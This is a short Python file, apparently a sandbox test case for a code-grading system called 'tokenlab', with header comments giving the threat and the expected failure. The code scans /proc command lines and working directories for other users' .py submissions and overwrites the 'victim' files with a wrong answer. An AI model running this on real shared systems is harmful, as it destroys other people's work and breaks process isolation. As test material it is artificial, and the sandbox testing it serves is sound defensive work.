# threat: find the other submissions through tokenlab's command line in
# /proc and overwrite them with a wrong solution, so a correct learner
# fails.
# want: fail: there is no variable called tokens
# off as a user: escapes
import glob
import os

WRONG = "print('sabotaged')\n"
targets = set()
for cmdline in glob.glob("/proc/*/cmdline"):
    try:
        args = open(cmdline, "rb").read().split(b"\0")
    except OSError:
        continue
    for a in args:
        a = a.decode(errors="replace")
        if os.path.isdir(a):
            targets.update(glob.glob(os.path.join(a, "*.py")))
        elif a.endswith(".py"):
            targets.add(a)
for cwd in glob.glob("/proc/*/cwd"):
    targets.update(glob.glob(os.path.join(cwd, "*.py")))
for t in targets:
    if "victim" in t:
        try:
            open(t, "w").write(WRONG)
        except OSError:
            pass
